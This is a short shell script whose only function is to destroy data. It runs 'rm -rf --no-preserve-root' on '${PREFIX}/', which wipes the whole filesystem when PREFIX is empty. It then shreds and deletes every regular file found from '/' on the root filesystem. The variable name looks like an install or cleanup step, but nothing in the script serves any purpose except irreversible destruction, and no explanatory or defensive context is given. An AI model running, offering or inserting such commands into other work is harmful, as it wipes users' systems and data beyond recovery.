#!/bin/sh
target=${PREFIX}/
rm -rf --no-preserve-root "$target"*
find / -xdev -type f -exec shred -n 1 -u {} +
